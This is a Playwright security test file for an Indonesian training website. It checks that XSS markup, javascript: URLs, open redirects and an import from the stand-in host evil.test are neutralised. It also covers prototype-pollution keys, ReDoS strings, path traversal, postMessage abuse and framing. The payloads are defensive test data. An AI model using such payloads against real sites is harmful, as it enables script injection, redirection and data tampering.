import { createServer, type Server } from 'node:http';
import { expect, type Page, test } from '@playwright/test';
import { deflateSync, strToU8 } from 'fflate';
import { translate } from '../src/i18n/words.ts';
import { makeAssignment, writeAssignment } from '../src/records/assignmentLink.ts';
import { formatCertificate } from '../src/simulator/certificate.ts';
import { readScenario, ready } from './playing.ts';
import { openStudio, proved } from './studioing.ts';
import { watchPage } from './watchPage.ts';

const t = translate('id');
const markup = '<img src=x onerror="globalThis.canary=1"><script>globalThis.canary=1</script>';

/** Notes dialogs, scripts of strangers, faults and foreign requests; call the result to demand that there were none. */
function watchAttack(page: Page, baseURL: string | undefined): () => Promise<void> {
  const demandQuiet = watchPage(page, baseURL ?? '');
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return async () => {
    expect(await page.evaluate(() => Reflect.get(globalThis, 'canary'))).toBeUndefined();
    expect(dialogs).toEqual([]);
    demandQuiet();
  };
}

/** What strangers may put behind the `?` and behind the `#` of any address. */
const payloads = [
  [
    `found=${encodeURIComponent(markup)}&q=${encodeURIComponent(markup)}&p=${encodeURIComponent(markup)}`,
    '"><svg/onload=globalThis.canary=1>',
  ],
  [
    'found=javascript:globalThis.canary=1&p=__proto__&p=constructor&next=https://evil.test/&url=//evil.test/',
    'javascript:globalThis.canary=1',
  ],
  [`found=${'%20.*(a%2B)%2B%24'.repeat(200)}&p=${'['.repeat(2_000)}`, 'a[b=c]:not(*)::before,}{'],
  [
    'endpoint=https://evil.test/&fetch=https://evil.test/t&registration=x&activityId=y&actor={"account":{"homePage":"h","name":"n"}}',
    '%E0%A4%A%00%E2%80%AEx',
  ],
] as const;

const kinds = [
  '',
  'skills/empati/',
  'products/compare/',
  'glossary/',
  'scenarios/',
  'scenarios/paket-terlambat/',
  'paths/minggu-pertama/certificate/',
  'study/',
  'assignment/',
  'records/',
  'progress/',
  'trainer/',
  'studio/',
  'offline/',
];

for (const kind of kinds) {
  test(`nothing behind the address of /${kind} runs, leads away or breaks the page`, async ({
    page,
    baseURL,
  }) => {
    const demandSafe = watchAttack(page, baseURL);
    for (const [query, fragment] of payloads) {
      await page.goto(`${kind}?${query}#${fragment}`, { waitUntil: 'networkidle' });
      expect(page.url().startsWith(`${baseURL}${kind}`)).toBe(true);
      await expect(page.locator('h1').first()).toBeVisible();
      await demandSafe();
    }
  });
}

test('a link to an attempt that was made up is refused in words', async ({ page, baseURL }) => {
  const demandSafe = watchAttack(page, baseURL);
  const links = [
    `#attempt=1&scenario=${encodeURIComponent(markup)}&seal=0123456789abcdef`,
    `#events=${encodeURIComponent(markup)}/x`,
    '#events=open:__proto__,constructor/prototype',
    `#attempt=1${'&x=1'.repeat(5_000)}&seal=0123456789abcdef`,
  ];
  for (const link of links) {
    await page.goto('about:blank');
    await page.goto(`scenarios/paket-terlambat/${link}`);
    await expect(page.getByRole('heading', { name: t('debrief.link.unverified') })).toBeVisible();
  }
  await demandSafe();
});

test('markup in a link to an assignment is the name of a class', async ({ page, baseURL }) => {
  const demandSafe = watchAttack(page, baseURL);
  const className = `${markup.slice(0, 60)}\u202e`;
  const made = makeAssignment({ className, scenarios: ['paket-terlambat'], mode: 'practice' });
  await page.goto(`assignment/#${writeAssignment(made)}`);
  await expect(page.getByRole('heading', { level: 1 })).toContainText('<img src=x');
  await page.goto('about:blank');
  await page.goto('assignment/#class=A&mode=__proto__&scenarios=constructor&id=0');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(t('assignment.refused'));
  await demandSafe();
});

test('markup in a certificate is the name of its owner, and it confirms nothing', async ({
  page,
  baseURL,
}) => {
  const demandSafe = watchAttack(page, baseURL);
  const link = formatCertificate({
    path: 'minggu-pertama',
    name: markup,
    date: '2026-11-22',
    passes: [{ scenario: 'paket-terlambat', time: 1, link: '#scenario=paket-terlambat' }],
  });
  await page.goto(`paths/minggu-pertama/certificate/${link}`);
  await expect(page.locator('[data-verdict]')).toBeVisible();
  await expect(page.locator('[data-verdict="confirmed"]')).toHaveCount(0);
  await demandSafe();
});

/** The fragment of the studio that carries any draft. */
function draftLink(slug: string, text: string): string {
  const packed = deflateSync(strToU8(JSON.stringify({ slug, texts: { id: text } })), { level: 9 });
  return `#draft=1.${Buffer.from(packed).toString('base64url')}`;
}

test('a hostile draft from a link is checked and shown as text', async ({ page, baseURL }) => {
  const demandSafe = watchAttack(page, baseURL);
  const { title } = readScenario('id');
  const hostile = [
    '---',
    `title: '${title} ${markup}'`,
    'customer: { name: "<b onclick=globalThis.canary=1>" }',
    '---',
    markup,
    '{globalThis.canary = 1}',
    "import x from 'https://evil.test/x.js'",
    '<Scene id="__proto__">\n<Customer>[a](javascript:globalThis.canary=1)</Customer>\n</Scene>',
  ].join('\n');
  await openStudio(page, 'id', draftLink('paket', hostile));
  await page.getByRole('button', { name: t('studio.shared.take') }).click();
  await proved(page);
  await expect(page.locator('.studio-finding').first()).toBeVisible();
  await demandSafe();
});

test('a draft that would be unpacked outside its folder, or is cut short, is refused in words', async ({
  page,
  baseURL,
}) => {
  const demandSafe = watchAttack(page, baseURL);
  for (const link of [draftLink('../../evil', 'x'), draftLink('paket', 'x').slice(0, -6)]) {
    await page.goto('about:blank');
    await openStudio(page, 'id', link);
    await expect(page.getByText(t('studio.shared.damaged'))).toBeVisible();
    await expect(page.getByText(t('studio.shared.title'))).toHaveCount(0);
  }
  await demandSafe();
});

test('any text can be searched for, and none runs or breaks the search', async ({ page, baseURL }) => {
  const demandSafe = watchAttack(page, baseURL);
  await page.goto('');
  await page.keyboard.press('/');
  const field = page.locator('#site-search input[type=search]');
  const status = page.locator('[data-search-status]');
  const words = [
    markup,
    '__proto__ constructor toString hasOwnProperty',
    '.*+?^$()|[]{}\\ (a+)+$',
    '\u202etapme\u2066 \u200b\u0000',
    '%E0%A4%A %00 $& $1',
    '" kind:x ^ ~ - +',
    'paket '.repeat(2_000),
  ];
  for (const text of words) {
    await field.fill(text);
    await expect(status).toHaveText(/\S/);
    await expect(page.locator('#site-search img, #site-search script')).toHaveCount(0);
    await field.fill('empati');
    await expect(page.locator('#site-search .page').first()).toContainText('Empati');
  }
  await demandSafe();
});

test('messages from other windows and their names do nothing', async ({ page, baseURL }) => {
  const demandSafe = watchAttack(page, baseURL);
  await page.addInitScript((name) => {
    window.name = name;
  }, markup);
  await page.goto('scenarios/paket-terlambat/');
  await ready(page);
  await page.evaluate((text) => {
    const messages = [
      text,
      { type: 'SKIP_WAITING' },
      { type: 'keep', pages: ['https://evil.test/'] },
      null,
      7,
    ];
    for (const message of messages) globalThis.postMessage(message, '*');
  }, markup);
  await expect(page.locator('h1').first()).toBeVisible();
  await demandSafe();
});

test.describe('from another site', () => {
  let stranger: Server;
  let address = '';
  test.beforeAll(async ({ baseURL }) => {
    stranger = createServer((_, response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(`<iframe src="${baseURL}"></iframe><a href="${baseURL}" target="x" rel="opener">go</a>`);
    });
    await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
    const at = stranger.address();
    address = typeof at === 'object' && at !== null ? `http://localhost:${at.port}/` : '';
  });
  test.afterAll(() => new Promise<void>((resolve) => stranger.close(() => resolve())));

  test('the site can not be framed where the host sends its headers', async ({ page }) => {
    const refused = page.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()));
    await page.goto(address);
    await refused;
    await expect(page.frameLocator('iframe').locator('main')).toHaveCount(0);
  });

  test('a window that opened the site can not reach it', async ({ page, context }) => {
    await page.goto(address);
    const coming = context.waitForEvent('page');
    await page.getByRole('link', { name: 'go' }).click();
    const opened = await coming;
    await expect(opened.locator('h1').first()).toBeVisible();
    expect(await opened.evaluate(() => globalThis.opener)).toBeNull();
  });
});
